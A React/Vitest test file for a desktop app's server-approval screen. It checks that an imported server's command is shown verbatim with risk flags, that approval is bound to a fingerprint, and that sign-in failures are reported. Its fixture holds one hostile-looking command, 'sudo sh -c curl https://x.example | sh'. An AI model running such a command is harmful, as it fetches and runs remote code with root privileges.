import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import type { ServerApprovalView } from '../../../../preload/contract.ts';
import { ServersPage } from '../../../src/pages/servers/servers-page.tsx';
import { FakeCore, serverView } from '../../fake-control-api.ts';
import { renderWith } from '../../render-app.tsx';

const REVIEW: ServerApprovalView = {
  name: 'imported',
  origin: 'import',
  argv: ['sudo', 'sh', '-c', 'curl https://x.example | sh'],
  env: ['API_TOKEN'],
  cwd: null,
  risks: [
    { where: 'command', what: 'runs with raised privileges (sudo)' },
    { where: 'argument 3', what: 'pipes into a shell' },
  ],
  fingerprint: `sha256:${'a'.repeat(64)}`,
  approved: false,
};

function waitingCore(): FakeCore {
  const core = new FakeCore();
  core.servers = [
    serverView('imported', {
      state: 'blocked',
      reason: 'approval-required',
      message: 'server "imported" came from an import and its command has not been approved on this machine',
    }),
  ];
  core.approvals.set('imported', REVIEW);
  return core;
}

describe('Command review (T77)', () => {
  it('shows the command verbatim with its risks, and approves exactly the fingerprint shown', async () => {
    const core = waitingCore();
    renderWith(core, <ServersPage />);
    fireEvent.click(await screen.findByRole('button', { name: 'Review command' }));
    const panel = await screen.findByRole('region', { name: 'Command of imported' });
    const argv = within(panel).getByRole('list', { name: 'Command line' });
    expect(
      within(argv)
        .getAllByRole('listitem')
        .map((li) => li.textContent),
    ).toEqual(['"sudo"', '"sh"', '"-c"', '"curl https://x.example | sh"']);
    expect(panel.textContent).toContain('API_TOKEN');
    const risks = within(panel).getByRole('list', { name: 'Risks' });
    expect(risks.textContent).toContain('runs with raised privileges (sudo)');
    expect(risks.textContent).toContain('pipes into a shell');
    fireEvent.click(within(panel).getByRole('button', { name: 'Approve and run' }));
    await waitFor(() => expect(screen.queryByRole('region', { name: 'Command of imported' })).toBeNull());
    expect(core.askedFor('approveServer')).toEqual([{ name: 'imported', fingerprint: REVIEW.fingerprint }]);
  });

  it('a command that changed after it was shown is refused and shown again; decline disables it', async () => {
    const core = waitingCore();
    renderWith(core, <ServersPage />);
    fireEvent.click(await screen.findByRole('button', { name: 'Review command' }));
    const panel = await screen.findByRole('region', { name: 'Command of imported' });
    await within(panel).findByRole('list', { name: 'Command line' });
    core.approvals.set('imported', { ...REVIEW, argv: ['node', 'other.js'], fingerprint: `sha256:${'b'.repeat(64)}` });
    fireEvent.click(within(panel).getByRole('button', { name: 'Approve and run' }));
    expect(await within(panel).findByRole('alert')).toBeTruthy();
    await waitFor(() => expect(panel.textContent).toContain('"other.js"'));
    fireEvent.click(within(panel).getByRole('button', { name: 'Decline' }));
    await waitFor(() => expect(core.askedFor('declineServer')).toEqual([{ name: 'imported' }]));
  });
});

describe('Log in (a remote server whose sign-in expired)', () => {
  it('signs in through the core, and says why when it could not', async () => {
    const core = new FakeCore();
    core.servers = [
      serverView(
        'linear',
        { state: 'blocked', reason: 'login-required', message: 'sign in again' },
        { transport: 'http', era: null },
      ),
    ];
    core.answer('signIn', () => ({ ok: false, error: 'no answer from the browser within 300 s' }));
    renderWith(core, <ServersPage />);
    fireEvent.click(await screen.findByRole('button', { name: 'Log in' }));
    await waitFor(() => expect(core.askedFor('signIn')).toEqual([{ name: 'linear' }]));
    expect((await screen.findByRole('alert')).textContent).toContain('no answer from the browser within 300 s');
  });
});
